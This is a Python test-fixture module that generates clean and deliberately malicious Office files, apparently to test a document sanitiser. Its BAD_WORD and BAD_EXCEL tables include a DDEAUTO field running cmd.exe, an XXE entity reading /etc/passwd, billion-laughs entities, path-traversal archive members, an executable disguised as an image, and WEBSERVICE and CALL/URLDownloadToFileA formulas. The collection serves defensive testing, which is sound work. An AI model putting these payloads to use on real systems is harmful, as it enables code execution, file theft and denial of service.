"""Word and Excel files made for the tests: good ones, and ones with what they must not have."""

import re
import zipfile
from io import BytesIO

from docx import Document
from docx.shared import Mm
from openpyxl import Workbook
from xlsxwriter import Workbook as ChartedWorkbook

from tests.files.pictures import PLACE, picture

KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATION = f'<Relationship Id="rX" Type="{KINDS}/{{}}" Target="{{}}"{{}}/>'
OUTSIDE = ' TargetMode="External"'
FIELD = '<w:r><w:instrText xml:space="preserve">{}</w:instrText></w:r>'
DOCTYPE = "<!DOCTYPE a [{}]>"
LAUGHS = '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;">'


def word():
    """A letter with a photo that knows where it was taken, and the names of who wrote it."""
    document = Document()
    document.core_properties.author = PLACE
    document.add_paragraph("调解协议书")
    document.add_picture(BytesIO(picture(size=(64, 48), comment=PLACE.encode())), width=Mm(40))
    document.add_picture(BytesIO(picture("PNG", size=(64, 48))), width=Mm(40))
    document.add_picture(BytesIO(picture("TIFF", size=(64, 48), exif=b"", description=PLACE)), width=Mm(40))
    kept = BytesIO()
    document.save(kept)
    return kept.getvalue()


def excel():
    book = Workbook()
    book.active.append(["姓名", "金额"])
    book.active.append(["=1+1", 20])
    book.active["A3"].hyperlink = "https://example.org/"
    kept = BytesIO()
    book.save(kept)
    return kept.getvalue()


def charted():
    kept = BytesIO()
    book = ChartedWorkbook(kept)
    sheet = book.add_worksheet()
    sheet.write_column("A1", [1, 2, 3])
    chart = book.add_chart({"type": "line"})
    chart.add_series({"values": "=Sheet1!$A$1:$A$3"})
    sheet.insert_chart("C1", chart)
    sheet.insert_image("C20", "a.jpg", {"image_data": BytesIO(picture(size=(64, 48)))})
    book.close()
    return kept.getvalue()


def changed(content, **given):
    """The package with some parts changed (a function of what they were) or added (bytes)."""
    parts = {name.replace("TYPES", "[Content_Types].xml"): how for name, how in given.items()}
    kept = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            how, data = parts.pop(name, None), old.read(name)
            new.writestr(name, how(data.decode()) if callable(how) else how if how is not None else data)
        for name, data in parts.items():
            new.writestr(name, data)
    return kept.getvalue()


def added(content, name, data=b"x"):
    return with_members(content, [(name, data)])


def with_members(content, members):
    kept = BytesIO(content)
    with zipfile.ZipFile(kept, "a", zipfile.ZIP_DEFLATED) as package:
        for name, data in members:
            package.writestr(name, data)
    return kept.getvalue()


def related(kind, target, outside=OUTSIDE):
    """A letter one of whose relationships leads somewhere."""
    line = RELATION.format(kind, target, outside) + "</Relationships>"
    return changed(
        word(), **{"word/_rels/document.xml.rels": lambda text: text.replace("</Relationships>", line)}
    )


def with_fields(*fields):
    told = "<w:p>" + "".join(FIELD.format(field) for field in fields) + "</w:p></w:body>"
    return changed(word(), **{"word/document.xml": lambda text: text.replace("</w:body>", told)})


def declared(inside, encoding="utf-8"):
    """A letter whose text declares a document type."""

    def change(text):
        body = re.sub(r"<\?xml[^>]*\?>", "", text)
        return f'<?xml version="1.0" encoding="{encoding}"?>{DOCTYPE.format(inside)}{body}'.encode(encoding)

    return changed(word(), **{"word/document.xml": change})


def typed(content, old, new):
    return changed(content, TYPES=lambda text: text.replace(old, new))


def locked():
    """A package whose parts say that they need a password."""
    content = bytearray(word())
    for start in (b"PK\x03\x04", b"PK\x01\x02"):
        at = content.find(start)
        while at >= 0:
            content[at + (6 if start[2] == 3 else 8)] |= 1
            at = content.find(start, at + 4)
    return bytes(content)


def twice():
    """A package with two parts of one name: programs differ on which they read."""
    kept = BytesIO(word())
    with zipfile.ZipFile(kept, "a") as package:
        name = package.getinfo("word/document.xml")
        package.writestr(zipfile.ZipInfo("word/DOCUMENT.xml"), package.read(name))
    return kept.getvalue()


def called(formula):
    line = f'<c r="B9"><f>{formula}</f></c></row></sheetData>'
    return changed(
        excel(), **{"xl/worksheets/sheet1.xml": lambda text: text.replace("</row></sheetData>", line)}
    )


def plain_zip(name="a.txt"):
    kept = BytesIO()
    with zipfile.ZipFile(kept, "w") as package:
        package.writestr(name, b"x")
    return kept.getvalue()


MAIN, MACRO = "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"
BAD_WORD = {
    "a macro": lambda: added(word(), "word/vbaProject.bin"),
    "a macro by type": lambda: typed(word(), "vnd.openxmlformats-officedocument." + MAIN, "vnd." + MACRO),
    "a macro by relationship": lambda: related("vbaProject", "a.bin", ""),
    "buttons of its own": lambda: added(word(), "customUI/customUI.xml", b"<a/>"),
    "an object inside": lambda: added(word(), "word/embeddings/oleObject1.bin"),
    "a control": lambda: added(word(), "word/activeX/activeX1.xml", b"<a/>"),
    "a page inside": lambda: added(word(), "word/afchunk.mht"),
    "a program as a picture": lambda: added(word(), "word/media/image9.jpg", b"MZ\x90\x00"),
    "an archive inside": lambda: added(word(), "word/media/image9.png", plain_zip()),
    "a template from elsewhere": lambda: related("attachedTemplate", "http://example.org/a.dotm"),
    "a picture from elsewhere": lambda: related("image", "http://example.org/a.png"),
    "a frame from elsewhere": lambda: related("frame", "http://example.org/a.htm"),
    "a link to a share": lambda: related("hyperlink", "file://host/share/a.exe"),
    "an object from elsewhere": lambda: related("oleObject", "http://example.org/a.doc"),
    "a field that starts programs": lambda: with_fields('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
    "such a field cut in pieces": lambda: with_fields("DD", "EAU", "TO cmd"),
    "a field that fetches": lambda: with_fields('INCLUDEPICTURE "http://example.org/a.png"'),
    "an entity that reads a file": lambda: declared('<!ENTITY x SYSTEM "file:///etc/passwd">'),
    "entities that grow": lambda: declared(LAUGHS),
    "a type declared in UTF-16": lambda: declared('<!ENTITY x "y">', "utf-16"),
    "a part that swells": lambda: added(word(), "word/media/image9.bmp", bytes(120_000_000)),
    "more than anybody writes": lambda: with_members(
        word(), [(f"word/media/{n}.bmp", b"x") for n in range(5200)]
    ),
    "a path that leads out": lambda: added(word(), "../../etc/cron.d/x"),
    "a path from the root": lambda: added(word(), "/etc/passwd"),
    "a path of Windows": lambda: added(word(), "word\\..\\..\\a.exe"),
    "two parts of one name": twice,
    "a password": locked,
    "no list of its parts": lambda: plain_zip("word/document.xml"),
    "an end that is missing": lambda: word()[:2000],
    "XML that is none": lambda: changed(word(), **{"word/document.xml": b"<w:document><w:body>"}),
}
BAD_EXCEL = {
    "a macro": lambda: added(excel(), "xl/vbaProject.bin"),
    "a macro of the old kind": lambda: added(excel(), "xl/macrosheets/sheet1.xml", b"<a/>"),
    "links to other books": lambda: added(excel(), "xl/externalLinks/externalLink1.xml", b"<a/>"),
    "data from elsewhere": lambda: added(excel(), "xl/connections.xml", b"<a/>"),
    "a formula that fetches": lambda: called('WEBSERVICE("http://example.org/"&amp;A1)'),
    "a formula that calls a library": lambda: called('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)'),
    "an object inside": lambda: added(excel(), "xl/embeddings/Microsoft_Word.docx", word()),
    "a binary book": lambda: added(typed(excel(), "spreadsheetml.sheet.main+xml", "x"), "xl/workbook.bin"),
}
